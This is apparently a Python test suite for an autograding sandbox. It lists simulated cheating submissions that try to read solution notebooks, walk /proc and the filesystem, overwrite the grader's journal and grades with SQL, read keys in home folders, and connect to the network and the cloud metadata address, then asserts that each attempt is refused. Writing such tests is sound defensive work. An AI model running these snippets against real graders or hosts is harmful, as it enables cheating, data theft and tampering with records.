"""On secrets: the solution, the references, other submissions, and what the grader may know."""

from __future__ import annotations

from .attack import Attack, Evidence, Scene, all_refused, code, told

# Runs the answers of a solution's notebook, were it to be found: worth a point more.
USE = """
import json
def use(text):
    for cell in json.loads(text)["cells"]:
        if cell["metadata"].get("name") == "rotate" and cell["metadata"]["role"] == "answer":
            exec("".join(cell["source"]), globals())
            return "the solution"
"""


def no_wire(evidence: Evidence) -> str:
    """All tries to reach somebody failed; that nobody was reached, a test of the batch shows."""
    all_refused(evidence)
    return "no connection, and nobody listening heard a byte"


def _only_listed(evidence: Evidence) -> str:
    names, values = evidence.found
    assert not [n for n in names if "TOKEN" in n or "SECRET" in n], names
    for text in (".ipynb", str(evidence.scene.course), str(evidence.scene.out)):
        assert text not in values
    return f"{len(names)} variables, none of them of the grader's"


def _leaves(evidence: Evidence) -> str:
    assert evidence.found, "it could leave nothing, so the next one proves nothing"
    return "it left something in its own world"


REACH = """
import socket
def tcp(address):
    def one():
        with socket.create_connection(address, timeout=2) as line:
            line.sendall(b"escaped")
        return "connected"
    return one
def udp():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        line.sendto(b"escaped", ("127.0.0.1", @PORT@))
    return "sent"
def local(address):
    def one():
        with socket.socket(socket.AF_UNIX) as line:
            line.connect(address)
            line.sendall(b"escaped")
        return "connected"
    return one
said = refused({
    "this machine": tcp(("127.0.0.1", @PORT@)),
    "datagram": udp,
    "local socket": local("@PATH@"),
    "abstract socket": local("\\0course-attacks-@PORT@"),
    "a name": tcp(("example.org", 80)),
    "an address": tcp(("192.0.2.1", 80)),
    "a cloud's secrets": tcp(("169.254.169.254", 80)),
})
"""


def _copy(scene: Scene, student: str) -> None:
    path = scene.submissions / "a-honest" / f"{scene.stem}.ipynb"
    scene.hand_in(student, scene.two_points(f"{USE}\nuse(open('{path}').read())\n"))


ATTACKS: list[Attack] = [
    code(
        "solution-by-path",
        "reads the solution by its path",
        USE + "use(open('@COURSE@/solutions/@STEM@.ipynb').read())\n",
        says="No such file",
    ),
    code(
        "solution-by-git",
        "asks git, and reads its folder",
        USE
        + """
import subprocess, zlib, pathlib
def git(*more):
    return subprocess.run(["git", "-C", "@COURSE@", *more], check=True, capture_output=True,
                          text=True).stdout
tell(refused({
    "show": lambda: use(git("show", "HEAD:solutions/@STEM@.ipynb")),
    "log": lambda: git("log", "-p"),
    "folder": lambda: [p for p in pathlib.Path("@COURSE@/.git").iterdir()][0],
}))
""",
        proof=all_refused,
    ),
    code(
        "solution-by-proc",
        "looks through the processes: arguments, environments, open files, folders, memory",
        """
import glob, os
said = {}
for pattern in ("cmdline", "environ", "fd/*", "cwd", "root", "mem", "maps", "mountinfo"):
    said[pattern] = glob.glob(f"/proc/*/{pattern}") + glob.glob(f"/proc/self/{pattern}")
tell({name: found for name, found in said.items() if found})
""",
        proof=told({}),
    ),
    code(
        "solution-by-environment",
        "looks at its variables",
        "import os\ntell([list(os.environ), str(list(os.environ.values()))])\n",
        proof=_only_listed,
    ),
    code(
        "solution-by-import",
        "asks coursetools where the course is, and for references",
        USE
        + """
import coursetools, pathlib
root = pathlib.Path(coursetools.__file__).parents[2]
tell(refused({
    "beside the library": lambda: next((root / "solutions").iterdir()),
    "derived": lambda: next((root / "exercises").iterdir()),
    "history": lambda: next((root / ".git").iterdir()),
    "journal": lambda: next(root.glob("**/journal.sqlite")),
    "by its name": lambda: use(__import__("solutions")),
}))
""",
        proof=all_refused,
    ),
    code(
        "searches-everything",
        "looks for a notebook or a solution anywhere",
        """
import os, sys
found = []
for folder, inside, names in os.walk("/"):
    if folder.startswith(("/usr", "/lib", sys.prefix + "/", sys.base_prefix + "/")):
        inside[:] = [name for name in inside if "course" in name]
    found += [os.path.join(folder, n) for n in names if "@STEM@" in n or n == "journal.sqlite"]
    if "solutions" in inside and "site-packages" not in folder:
        found.append(folder)
tell(found)
""",
        proof=told([]),
    ),
    Attack(
        "another-submission",
        "takes the answer out of another submission",
        _copy,
        says="No such file",
    ),
    code(
        "grader-files",
        "reads and changes what the grader writes, and the rows of others",
        """
import pathlib, sqlite3
tell(refused({
    "journal": lambda: open("@OUT@/journal.sqlite", "r+b"),
    "points": lambda: sqlite3.connect("file:@OUT@/journal.sqlite?mode=rw", uri=True).execute(
        "UPDATE results SET points = 6"),
    "seed": lambda: open("@OUT@/grading.json", "w"),
    "table": lambda: open("@OUT@/grades.csv", "a"),
    "pages": lambda: next(pathlib.Path("@OUT@/feedback").iterdir()),
    "the folder": lambda: pathlib.Path("@OUT@").mkdir(),
    "another's file": lambda: open("@SUBMISSIONS@/a-honest/@STEM@.ipynb", "w"),
    "solution": lambda: open("@COURSE@/solutions/@STEM@.ipynb", "w"),
    "exercise": lambda: open("@COURSE@/exercises/@STEM@.ipynb", "w"),
}))
""",
        proof=all_refused,
    ),
    code(
        "home",
        "reads keys of whoever grades, and leaves something to be run",
        """
import os, pathlib
homes = [pathlib.Path(p) for p in ("@HOME@", "/root", "/home")]
def write(path):
    return lambda: path.write_text("escaped")
tries = {f"read {h}": lambda h=h: (h / "secret").read_text() for h in homes}
tries |= {f"write {h}": write(h / "escaped") for h in homes}
tries |= {p: write(pathlib.Path(p) / "escaped") for p in ("/", "/etc", "/usr/bin", "/var/tmp",
          "/run", "/dev", "/work", "/opt", "/sys")}
tell(refused(tries))
""",
        proof=all_refused,
    ),
    code(
        "network",
        "reaches for somebody: this machine, its sockets, the world",
        REACH + "tell(said)\n",
        proof=no_wire,
    ),
    code(
        "leaves-things-1",
        "leaves files, sockets and memory for the next submission",
        """
import os, socket
from multiprocessing import shared_memory
for folder in ("/tmp", "/dev/shm", os.path.expanduser("~"), "/tmp/work"):
    open(f"{folder}/left-behind", "w").write("the answers")
line = socket.socket(socket.AF_UNIX)
line.bind("\\0left-behind")
line.listen()
shared_memory.SharedMemory("left-behind-too", create=True, size=100)
if os.fork() == 0:
    import time
    time.sleep(500)
    os._exit(0)
tell(sorted(os.listdir("/dev/shm")))
""",
        proof=_leaves,
    ),
    code(
        "leaves-things-2",
        "looks for what the submission before has left",
        """
import os, socket
found = [f"{folder}/{name}" for folder in ("/tmp", "/dev/shm", "/tmp/work", "/run/kernels")
         for name in os.listdir(folder) if "left" in name or folder == "/run/kernels"]
try:
    socket.socket(socket.AF_UNIX).connect("\\0left-behind")
    found.append("a socket")
except OSError:
    pass
for number in range(3, 1000):
    try:
        if os.getpgid(number) != os.getpgid(0):  # threads have numbers, too
            found.append(number)
    except OSError:
        pass
tell(found)
""",
        proof=told([]),
    ),
]
